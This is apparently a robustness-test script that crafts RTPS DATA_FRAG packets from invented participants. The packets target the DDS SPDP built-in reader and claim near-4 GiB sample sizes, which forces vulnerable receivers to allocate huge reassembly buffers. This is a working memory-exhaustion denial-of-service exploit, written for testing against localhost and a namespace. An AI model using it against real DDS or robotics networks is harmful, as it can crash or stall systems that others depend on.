#!/usr/bin/env python3
"""Crafted RTPS packets for rove's robustness tests: raw UDP datagrams, built byte by byte with
the standard library, that no honest DDS implementation sends.

    rtps_bomb.py datafrag [--count N] [--sample-size BYTES] [--fragment-size BYTES] [--port P ...]

`datafrag` sends N DATA_FRAG submessages, each from a writer GUID of its own (an invented
participant), addressed to the SPDP built-in participant reader (entity 0x000100c7), which every
participant has and which, being stateless, accepts DATA_FRAG from any writer, matched or not,
even in a domain secured at the RTPS level. Each claims a sample of --sample-size bytes
(default 0xFFFF0000, just under 4 GiB) and carries only its first fragment. A receiver that
allocates and zero-fills the claimed sample size for the reassembly buffer commits that much
memory per datagram.

Datagrams go to 127.0.0.1 and to the SPDP multicast group 239.255.0.1 on each --port (default
7400, domain 0's SPDP multicast port, and 7410..7431, the unicast metatraffic ports of
participants 0..11). Run inside the test's network namespace. Prints one JSON line
{"sent": datagrams} and exits 0.
"""

import argparse
import json
import socket
import struct

SPDP_READER = bytes([0x00, 0x01, 0x00, 0xC7])
SPDP_WRITER = bytes([0x00, 0x01, 0x00, 0xC2])
DATA_FRAG = 0x16
FLAG_LITTLE_ENDIAN = 0x01
MULTICAST_GROUP = "239.255.0.1"


def header(prefix: bytes) -> bytes:
    """RTPS header: protocol 2.4, an unassigned vendor id, the sender's GUID prefix."""
    return b"RTPS" + bytes([2, 4]) + bytes([0x01, 0xFE]) + prefix


def datafrag(seq: int, sample_size: int, fragment_size: int) -> bytes:
    payload = bytes([0x00, 0x03, 0x00, 0x00]) + b"\xAB" * (fragment_size - 4)
    body = struct.pack(
        "<HH4s4siIIHHI",
        0,  # extraFlags
        28,  # octetsToInlineQos: the fields from readerId to sampleSize
        SPDP_READER,
        SPDP_WRITER,
        0,  # writerSN high
        seq,  # writerSN low
        1,  # fragmentStartingNum
        1,  # fragmentsInSubmessage
        fragment_size,
        sample_size,
    ) + payload
    return struct.pack("<BBH", DATA_FRAG, FLAG_LITTLE_ENDIAN, len(body)) + body


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["datafrag"])
    parser.add_argument("--count", type=int, default=16)
    parser.add_argument("--sample-size", type=lambda s: int(s, 0), default=0xFFFF0000)
    parser.add_argument("--fragment-size", type=int, default=1024)
    parser.add_argument("--port", type=int, action="append")
    args = parser.parse_args()
    ports = args.port or [7400] + list(range(7410, 7432))

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    sent = 0
    for n in range(args.count):
        # Every datagram from another invented participant: 12 bytes of GUID prefix.
        prefix = struct.pack(">4sQ", b"BOMB", n)
        packet = header(prefix) + datafrag(n + 1, args.sample_size, args.fragment_size)
        for port in ports:
            for host in ("127.0.0.1", MULTICAST_GROUP):
                try:
                    sock.sendto(packet, (host, port))
                    sent += 1
                except OSError:
                    pass  # nothing listens there: fine
    print(json.dumps({"sent": sent}), flush=True)


if __name__ == "__main__":
    main()
